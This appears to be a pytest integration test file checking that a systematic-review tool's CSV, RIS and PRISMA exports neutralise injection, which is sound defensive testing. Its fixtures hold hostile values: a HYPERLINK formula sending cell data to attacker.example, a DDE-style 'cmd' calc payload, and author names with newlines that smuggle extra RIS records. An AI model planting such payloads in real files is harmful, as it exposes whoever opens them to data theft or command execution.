"""Exports hold every record of the review with its notes, flags and history, cannot carry a
spreadsheet formula or an extra RIS record, and the PRISMA counts come as CSV (SQLite and
PostgreSQL).

The hostile values reproduce structures seen in PubMed data: a collective author name spanning
two lines, initials with a trailing line break, and a title opening with a sign ("+/- ...",
"-2 log likelihood ...") or an "@" handle; plus what a reviewer can type into a note.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from db.models import Record, ReviewRecord, ScreeningDecision

pytestmark = pytest.mark.integration
RIS_LINE = re.compile(r"^[A-Z][A-Z0-9]  - ")
HOSTILE_NOTE = '=HYPERLINK("http://attacker.example/?x="&A1,"details")'


@pytest.fixture
def varied(seed, factory):
    """Records in every state a review holds, with hostile text in them."""
    with factory() as session, session.begin():
        rule_record = Record(
            pmid=32_000_001,
            title="+cmd|' /C calc'!A0 rat model of disc regression",
            abstract="Animal study.",
            authors=[{"last": "Rattus", "initials": "N\nTY  - JOUR"}],
            content_hash="r1",
        )
        linked_record = Record(
            pmid=32_000_002,
            title="@SUM(1+1) duplicate of an included study",
            abstract="Same cohort.",
            authors=[{"collective": "Spine\r\nER  - \r\nStudy Group"}],
            content_hash="r2",
        )
        session.add_all([rule_record, linked_record])
        session.flush()
        session.add_all(
            [
                ReviewRecord(
                    review_id=seed.review_id,
                    record_id=rule_record.id,
                    state="auto_excluded",
                    rule="animal_study",
                    reason="Animal study",
                    flags=["=1+2", "language"],
                ),
                ReviewRecord(
                    review_id=seed.review_id,
                    record_id=linked_record.id,
                    state="linked",
                    study_id=seed.baseline_studies[0],
                ),
            ]
        )
    return seed


def _rows(client, slug) -> dict[str, dict[str, str]]:
    text = client.get(f"/reviews/{slug}/export/records.csv").text
    return {r["pmid"]: r for r in csv.DictReader(io.StringIO(text))}


def test_records_csv_holds_every_record_with_notes_and_history(varied, make_client, factory):
    seed = varied
    admin = make_client("admin")
    url = f"/api/reviews/{seed.slug}/decisions"
    first = {"review_record_id": seed.queued[0], "decision": "include", "note": "first look"}
    assert admin.post(url, json=first).status_code in (200, 201)
    undo = admin.post(f"{url}/undo", json={"stage": "title_abstract"})
    assert undo.status_code == 200, undo.text
    second = {
        "review_record_id": seed.queued[0],
        "decision": "exclude",
        "reason": "Case report",
        "note": HOSTILE_NOTE,
    }
    assert admin.post(url, json=second).status_code in (200, 201)
    rows = _rows(admin, seed.slug)
    with factory() as session:
        total = session.query(ReviewRecord).filter_by(review_id=seed.review_id).count()
        assert session.query(ScreeningDecision).count() == 2
    assert len(rows) == total == 9  # 6 queued, 1 included, 1 excluded by a rule, 1 linked
    rule = rows["32000001"]
    assert (rule["state"], rule["decision"], rule["decided_by"]) == (
        "auto_excluded",
        "exclude",
        "rule",
    )
    assert rule["reason"] == "Animal study" and rule["rule"] == "animal_study"
    assert rule["flags"] == "'=1+2; language"
    linked = rows["32000002"]
    assert linked["state"] == "linked" and linked["decision"] == ""
    assert linked["linked_study_id"] == str(seed.baseline_studies[0])
    screened = rows["30000000"]
    assert screened["decision"] == "exclude" and screened["reason"] == "Case report"
    assert screened["notes"] == f"admin@example.org: first look | admin@example.org: {HOSTILE_NOTE}"
    history = screened["history"].split(" | ")
    assert len(history) == 2
    assert "title_abstract include" in history[0] and "[undone " in history[0]
    assert history[1].endswith("title_abstract exclude (Case report)")
    assert "[undone" not in history[1]


def test_no_csv_cell_starts_like_a_formula(varied, make_client):
    admin = make_client("admin")
    body = {"review_record_id": varied.queued[1], "decision": "maybe", "note": "-1 risk"}
    admin.post(f"/api/reviews/{varied.slug}/decisions", json=body)
    for name in ("records.csv", "studies.csv", "prisma.csv"):
        text = admin.get(f"/reviews/{varied.slug}/export/{name}").text
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert cells, name
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], (name, risky)
    rows = _rows(admin, varied.slug)
    assert rows["32000001"]["title"].startswith("'+cmd|")
    assert rows["32000002"]["title"] == "'@SUM(1+1) duplicate of an included study"


def test_ris_has_one_record_per_record_and_one_line_per_value(varied, make_client):
    admin = make_client("admin")
    ris = admin.get(f"/reviews/{varied.slug}/export/records.ris").text
    lines = ris.split("\r\n")
    assert all(line == "" or RIS_LINE.match(line) for line in lines), [
        line for line in lines if line and not RIS_LINE.match(line)
    ]
    assert sum(line == "TY  - JOUR" for line in lines) == 9
    assert sum(line.startswith("ER  -") for line in lines) == 9
    assert "AU  - Rattus N TY - JOUR" in lines
    assert "AU  - Spine ER - Study Group" in lines
    assert "KW  - screening:linked" in lines


def test_prisma_csv_matches_the_diagram_counts(varied, make_client):
    admin = make_client("admin")
    counts = admin.get(f"/api/reviews/{varied.slug}/prisma").json()
    text = admin.get(f"/reviews/{varied.slug}/export/prisma.csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    by_box = {r["box"]: int(r["count"]) for r in rows}
    assert rows[0]["section"] == "previous"
    assert by_box["Studies included in previous version of review"] == counts["previous_studies"]
    assert by_box["Records identified from PubMed"] == counts["identified"] == 9
    assert by_box["Duplicate records (linked to included studies)"] == counts["duplicates"] == 1
    assert by_box["Records excluded by rules"] == counts["auto_excluded_rule"] == 1
    assert by_box["Records awaiting screening"] == counts["awaiting"] == 6
    assert by_box["Total studies included in review"] == counts["total_studies"]
    reviewer = make_client("alice")
    assert reviewer.get(f"/reviews/{varied.slug}/export/prisma.csv").status_code == 200
    assert reviewer.get(f"/reviews/{varied.slug}/export/records.csv").status_code == 403
